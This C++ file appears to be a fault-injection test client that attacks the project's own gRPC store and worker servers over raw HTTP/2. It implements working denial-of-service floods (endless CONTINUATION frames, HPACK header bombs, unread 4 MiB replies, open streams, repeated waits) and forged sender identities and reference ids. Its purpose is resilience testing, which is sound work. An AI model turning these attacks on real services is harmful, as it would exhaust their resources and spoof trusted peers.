// A hostile client of a store or a worker, which repeats one attack until it is
// killed, over new connections when the server closes one.
//
//   endless_headers     one header block that never ends
//   forged_senders      calls, each with the name and the rank of a member and
//                       another incarnation, or as a client of another name
//                       (worker)
//   header_bombs        calls whose headers refer 4,000 times to an entry of
//                       4 KB
//   open_calls          calls without end, and no acknowledgement of settings
//   planted_references  creations and copies of references, with ids of its own
//                       and of the victim's making (worker)
//   repeated_waits      waits that name one key of 4 MiB 500 times (store)
//   unread_replies      calls with replies of 4 MiB, which it never reads
//
// Reports "attacking" on standard output when the first bytes were sent.

#include <sys/resource.h>

#include <cstdint>
#include <iostream>
#include <memory>
#include <string>
#include <string_view>
#include <utility>

#include "absl/flags/flag.h"
#include "absl/flags/parse.h"
#include "absl/strings/str_cat.h"
#include "async/check.h"
#include "grpcpp/client_context.h"
#include "grpcpp/create_channel.h"
#include "grpcpp/security/credentials.h"
#include "net/testing/raw_http2.h"
#include "proto/rpc.pb.h"
#include "proto/rref.pb.h"
#include "proto/store.grpc.pb.h"
#include "rpc/identity/worker_info.h"
#include "rpc/testing/raw_client.h"
#include "rpc/transport/transfer_counters.h"
#include "rpc/wire/message_codec.h"
#include "tests/faults/worker_functions.h"

ABSL_FLAG(std::string, attack, "", "Name of the attack.");
ABSL_FLAG(std::string, address, "", "\"host:port\" of the server.");
ABSL_FLAG(std::string, worker, "", "Name of the worker; empty: a store.");
ABSL_FLAG(uint64_t, incarnation, 0, "Incarnation of the worker.");
ABSL_FLAG(int, rank, 0, "Rank of the worker.");
ABSL_FLAG(std::string, member, "", "Name of another worker of the job.");
ABSL_FLAG(int, member_rank, 0, "Rank of that worker.");

namespace hawser::tests {
namespace {

constexpr size_t kReplyBytes = size_t{4} << 20;
constexpr char kKey[] = "attack";
constexpr rpc::Incarnation kOwnRun{1};

using net::Frame;
using net::FrameType;

class Attacker {
 public:
  Attacker()
      : address_(absl::GetFlag(FLAGS_address)),
        worker_(absl::GetFlag(FLAGS_worker)) {
    if (worker_.empty()) PrepareStore();
  }

  [[noreturn]] void Run(const std::string& attack) {
    bool reported = false;
    while (true) {
      net::RawHttp2 connection(address_);
      if (!connection.connected()) continue;
      next_stream_ = 1;
      const bool reads_nothing = attack == "unread_replies";
      if (!connection.SendPreface(reads_nothing)) continue;
      if (!std::exchange(reported, true)) std::cout << "attacking" << std::endl;
      if (attack == "endless_headers") {
        SendEndlessHeaders(connection);
      } else if (attack == "forged_senders") {
        ForgeSenders(connection);
      } else if (attack == "header_bombs") {
        SendHeaderBombs(connection);
      } else if (attack == "open_calls") {
        OpenCalls(connection);
      } else if (attack == "planted_references") {
        PlantReferences(connection);
      } else if (attack == "repeated_waits") {
        RepeatWaits(connection);
      } else if (attack == "unread_replies") {
        LeaveRepliesUnread(connection);
      } else {
        HAWSER_CHECK(false) << "unknown attack";
      }
    }
  }

 private:
  // Stores the value that replies contain.
  void PrepareStore() {
    const auto stub = v1::Store::NewStub(
        grpc::CreateChannel(address_, grpc::InsecureChannelCredentials()));
    v1::StoreHelloReply hello;
    {
      grpc::ClientContext context;
      HAWSER_CHECK(stub->Hello(&context, {}, &hello).ok());
    }
    server_incarnation_ = hello.server_incarnation();
    v1::StoreSetRequest request;
    request.set_server_incarnation(server_incarnation_);
    request.mutable_request_id()->set_client(1);
    request.mutable_request_id()->set_sequence(1);
    request.set_key(kKey);
    request.set_value(std::string(kReplyBytes, 'v'));
    grpc::ClientContext context;
    v1::StoreSetReply reply;
    HAWSER_CHECK(stub->Set(&context, request, &reply).ok());
  }

  std::string path() const {
    return worker_.empty() ? "/hawser.v1.Store/Get" : rpc::RawClient::kCallPath;
  }

  // A request whose reply has 4 MiB.
  std::string Request() {
    if (worker_.empty()) {
      v1::StoreGetRequest request;
      request.set_server_incarnation(server_incarnation_);
      request.set_key(kKey);
      return request.SerializeAsString();
    }
    return ClientMessage(
        rpc::RawClient::FunctionCall(kHuge, static_cast<int64_t>(kReplyBytes)));
  }

  // A message to the worker.
  std::string MessageFrom(const std::string& name, rpc::WorkerId id,
                          rpc::Incarnation run, std::string body) {
    rpc::TransferCounters counters;
    const auto message = rpc::EncodeMessage(
        {.body = std::move(body),
         .header =
             rpc::EncodeRequestHeader({.job = "faults",
                                       .source = name,
                                       .source_rank = id,
                                       .source_incarnation = run,
                                       .destination = worker_,
                                       .destination_incarnation = victim_run_,
                                       .call_id = ++last_call_,
                                       .autograd = std::nullopt})},
        counters);
    HAWSER_CHECK(message.ok()) << message.status();
    return *message->Flatten();
  }

  // The same, from a client.
  std::string ClientMessage(std::string body) {
    return MessageFrom("attacker", rpc::WorkerId(), kOwnRun, std::move(body));
  }

  // Adds "x" with `value` to the table of headers, as its entry 62.
  std::string AddEntry(const std::string& value) const {
    std::string block = net::HeaderBlock(net::CallHeaders(path()));
    std::string entry = net::HeaderBlock({{"x", value}});
    entry[0] = '\x40';
    return block + entry;
  }
  // References to entry 62.
  static std::string References(size_t count) {
    return std::string(count, '\xbe');
  }

  void SendEndlessHeaders(net::RawHttp2& connection) const {
    if (!connection.Send({.type = FrameType::kHeaders,
                          .stream = 1,
                          .payload = AddEntry("")})) {
      return;
    }
    const Frame more = {.type = FrameType::kContinuation,
                        .stream = 1,
                        .payload = References(16'000)};
    while (connection.Send(more)) {
    }
  }

  void SendHeaderBombs(net::RawHttp2& connection) const {
    std::string entry = AddEntry(std::string(4000, 'v'));
    for (uint32_t stream = 1; connection.Send({.type = FrameType::kHeaders,
                              .flags = net::kEndHeaders,
                              .stream = stream,
                              .payload = entry + References(4000)});
         stream += 2) {
      entry = net::HeaderBlock(net::CallHeaders(path()));
    }
  }

  void OpenCalls(net::RawHttp2& connection) const {
    const std::string headers = net::HeaderBlock(net::CallHeaders(path()));
    for (uint32_t stream = 1; connection.Send({.type = FrameType::kHeaders,
                              .flags = net::kEndHeaders,
                              .stream = stream,
                              .payload = headers});
         stream += 2) {
    }
  }

  void RepeatWaits(net::RawHttp2& connection) {
    v1::StoreWaitRequest request;
    request.set_server_incarnation(server_incarnation_);
    for (int i = 0; i < 500; ++i) request.add_keys(kKey);
    const std::string message = request.SerializeAsString();
    while (CallAndAwait(connection, "/hawser.v1.Store/Wait", message)) {
    }
  }

  // Calls from ever new senders.
  void ForgeSenders(net::RawHttp2& connection) {
    const std::string body = rpc::RawClient::FunctionCall(kTakesForLost, 0);
    std::string message;
    do {
      const rpc::Incarnation run{++last_run_};
      message =
          last_run_ % 2 == 0
              ? MessageFrom(absl::GetFlag(FLAGS_member),
                            rpc::WorkerId{absl::GetFlag(FLAGS_member_rank)},
                            run, body)
              : MessageFrom(absl::StrCat("client", last_run_), rpc::WorkerId(),
                            run, body);
    } while (CallAndAwait(connection, rpc::RawClient::kCallPath, message));
  }

  void PlantReferences(net::RawHttp2& connection) {
    while (
        CallAndAwait(connection, "/hawser.v1.RRefService/Create", Creation()) &&
        CallAndAwait(connection, "/hawser.v1.RRefService/Control", Copies())) {
    }
  }

  // A new id, of a reference or a copy.
  void MakeId(bool own, v1::GlobalId& id) {
    id.mutable_creator()->set_worker(own ? -1 : absl::GetFlag(FLAGS_rank));
    id.mutable_creator()->set_incarnation(
        static_cast<uint64_t>(own ? kOwnRun : victim_run_));
    id.set_number(++last_id_);
  }

  std::string Creation() {
    v1::CallRequest call;
    HAWSER_CHECK(
        call.ParseFromString(rpc::RawClient::FunctionCall(kTakesForLost, 0)));
    v1::RRefCreateRequest request;
    MakeId(/*own=*/last_id_ % 3 != 0, *request.mutable_rref());
    MakeId(/*own=*/last_id_ % 5 != 0, *request.mutable_fork());
    request.set_function(call.function());
    request.set_signature(call.signature());
    request.set_arguments(call.arguments().SerializeAsString());
    return ClientMessage(request.SerializeAsString());
  }

  std::string Copies() {
    v1::RRefControlRequest request;
    request.set_first_sequence(1);
    for (int i = 0; i < 100; ++i) {
      v1::RequestFork& fork = *request.add_operations()->mutable_request_fork();
      MakeId(/*own=*/i % 2 == 0, *fork.mutable_rref());
      MakeId(/*own=*/i % 4 < 2, *fork.mutable_fork());
    }
    return ClientMessage(request.SerializeAsString());
  }

  // Makes a call and awaits its end. Returns false if the server closes the
  // connection.
  bool CallAndAwait(net::RawHttp2& connection, std::string_view path,
                    const std::string& message) {
    if (!connection.SendCall(next_stream_, path, message)) return false;
    next_stream_ += 2;
    Frame frame;
    do {
      if (!connection.Await(FrameType::kHeaders, frame)) return false;
    } while ((frame.flags & net::kEndStream) == 0);
    return true;
  }

  void LeaveRepliesUnread(net::RawHttp2& connection) {
    for (uint32_t stream = 1; connection.SendCall(stream, path(), Request());
         stream += 2) {
    }
  }

  const std::string address_;
  const std::string worker_;
  const rpc::Incarnation victim_run_{absl::GetFlag(FLAGS_incarnation)};
  uint64_t server_incarnation_ = 0;
  uint64_t last_call_ = 0;
  uint64_t last_run_ = 1 << 20;
  uint64_t last_id_ = 0;
  // Of the current connection.
  uint32_t next_stream_ = 1;
};

}  // namespace
}  // namespace hawser::tests

int main(int argc, char** argv) {
  absl::ParseCommandLine(argc, argv);
  // The attacker has a machine of its own: its computing should not slow the
  // victim down.
  setpriority(PRIO_PROCESS, 0, 19);
  hawser::tests::Attacker attacker;
  attacker.Run(absl::GetFlag(FLAGS_attack));
}
